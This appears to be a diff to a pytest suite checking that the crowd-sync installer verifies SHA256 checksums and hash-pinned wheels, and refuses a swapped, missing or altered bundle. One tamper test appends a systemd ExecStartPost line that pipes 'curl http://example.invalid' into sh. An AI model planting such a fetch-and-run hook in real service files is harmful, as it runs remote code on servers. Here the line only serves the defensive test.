@@ -28,8 +28,10 @@ from sync.bundle import (
     RegistryUnreachable,
     check_index,
     glibc_floor,
+    manifest,
     normalize,
     target_platforms,
+    wheel_name_version,
 )
 from sync.upstream.simulator import SimConfig, Simulator
 from tests.conftest import IN_CI
@@ -108,8 +110,10 @@ def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
 
 @pytest.fixture(scope="module")
 def unpacked(built: Built, tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """The archive unpacked on the 'server', as ``tar xzf`` does."""
+    """The archive and its .sha256 copied to the 'server', and unpacked there as ``tar xzf`` does."""
     where = tmp_path_factory.mktemp("server")
+    for item in (built.archive, built.archive.with_name(built.archive.name + ".sha256")):
+        shutil.copy2(item, where / item.name)
     with tarfile.open(built.archive) as tar:
         tar.extractall(where, filter="tar")
     return where / f"crowd-sync-{__version__}"
@@ -121,7 +125,21 @@ def prefix(unpacked: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
     prefix = tmp_path_factory.mktemp("opt") / "crowd-sync"
     r = _install(unpacked, prefix)
     assert r.returncode == 0, r.stdout + r.stderr
+    # It checked the archive beside it and every unpacked file before installing anything.
+    assert "matches its .sha256" in r.stderr and "matches SHA256SUMS" in r.stderr, r.stderr
     return prefix
+
+
+def _requirements(bundle_dir: Path) -> dict[str, tuple[str, str]]:
+    """requirements.txt: name -> (version, sha256)."""
+    pins: dict[str, tuple[str, str]] = {}
+    for line in (bundle_dir / "requirements.txt").read_text().splitlines():
+        m = re.fullmatch(r"([a-z0-9-]+)==(\S+) --hash=sha256:([0-9a-f]{64})", line)
+        if m:
+            pins[m.group(1)] = (m.group(2), m.group(3))
+        else:
+            assert line.startswith("#"), line
+    return pins
 
 
 @pytest.fixture
@@ -163,9 +181,16 @@ def test_wheelhouse_is_every_runtime_dependency_pinned_to_venv_and_the_build_too
     wheelhouse = unpacked / "wheelhouse"
     files = [p.name for p in wheelhouse.iterdir()]
     assert files and all(f.endswith(".whl") for f in files), "only wheels: installing must never build"
-    pins = dict(line.split("==") for line in (unpacked / "requirements.txt").read_text().splitlines() if "==" in line)
+    hashed = _requirements(unpacked)
+    # Every wheel pinned by its sha256, for pip install --require-hashes.
+    assert len(hashed) == len(files)
+    for wheel in wheelhouse.iterdir():
+        name, version = wheel_name_version(wheel.name)
+        assert hashed[name] == (version, hashlib.sha256(wheel.read_bytes()).hexdigest()), wheel.name
+    pins = {name: version for name, (version, _) in hashed.items()}
     assert pins[normalize("crowd-sync")] == __version__
-    # Every runtime dependency, transitively, at the version the tests ran against.
+    # Every runtime dependency and every database driver that installs from a wheel, transitively,
+    # at the version the tests ran against.
     runtime = {"sqlalchemy", "alembic", "apscheduler", "requests", "pymysql", "oracledb", "psycopg2-binary",
                "pymssql", "structlog", "pydantic", "pydantic-core", "prometheus-client", "pyyaml", "tzdata",
                "urllib3", "certifi", "mako", "tzlocal", "cryptography"}
@@ -220,14 +245,51 @@ def test_reinstall_keeps_the_previous_venv_and_a_failed_one_restores_it(unpacked
     assert (prefix / ".venv.previous" / "bin" / "crowd-sync").exists()
     assert _run(exe, "--version", cwd=tmp_path).stdout.strip() == f"crowd-sync {__version__}"
 
-    # A broken bundle (a wheel missing) fails, and the working venv is put back.
-    broken = tmp_path / unpacked.name
+    # A wheel swapped for another, with SHA256SUMS rewritten to match: pip's --require-hashes
+    # refuses it against requirements.txt, the installation fails and the working venv is put back.
+    broken = tmp_path / "server" / unpacked.name
     shutil.copytree(unpacked, broken)
-    next((broken / "wheelhouse").glob("structlog-*.whl")).unlink()
+    swapped = next((broken / "wheelhouse").glob("structlog-*.whl"))
+    swapped.write_bytes(swapped.read_bytes() + b"\0")
+    (broken / "SHA256SUMS").write_text(manifest(broken), encoding="utf-8")
     r = _install(broken, prefix)
     assert r.returncode != 0
     assert "installation failed" in r.stderr
+    assert "DO NOT MATCH THE HASHES" in r.stderr, r.stderr[-3000:]
     assert _run(exe, "--version", cwd=tmp_path).stdout.strip() == f"crowd-sync {__version__}"
+
+
+def test_a_damaged_or_changed_bundle_is_refused_before_anything_is_touched(
+    built: Built, unpacked: Path, prefix: Path, tmp_path: Path
+) -> None:
+    marker = prefix / ".venv" / "still-the-installed-venv"
+    marker.touch()
+
+    def refused(bundle_dir: Path, *named: str) -> None:
+        r = _install(bundle_dir, prefix)
+        assert r.returncode == 2, r.stdout + r.stderr
+        assert "refusing to install" in r.stderr
+        for text in named:
+            assert text in r.stderr, (text, r.stderr)
+        assert marker.exists()  # the installed venv was not even moved aside
+
+    # A wheel missing, and an unpacked file changed.
+    missing = tmp_path / "missing" / unpacked.name
+    shutil.copytree(unpacked, missing)
+    next((missing / "wheelhouse").glob("structlog-*.whl")).unlink()
+    refused(missing, "SHA256SUMS", "structlog")
+    changed = tmp_path / "changed" / unpacked.name
+    shutil.copytree(unpacked, changed)
+    with (changed / "deploy" / "crowd-sync.service").open("a") as unit:
+        unit.write("ExecStartPost=/bin/sh -c 'curl http://example.invalid | sh'\n")
+    refused(changed, "deploy/crowd-sync.service")
+
+    # The archive beside the unpacked files does not match its .sha256: damaged or replaced.
+    beside = tmp_path / "beside"
+    shutil.copytree(unpacked, beside / unpacked.name)
+    shutil.copy2(built.archive, beside / built.archive.name)
+    (beside / (built.archive.name + ".sha256")).write_text(f"{'0' * 64}  {built.archive.name}\n")
+    refused(beside / unpacked.name, built.archive.name, ".sha256")
 
 
 def test_glibc_floor_is_the_most_demanding_wheel_at_its_least_demanding_tag() -> None:
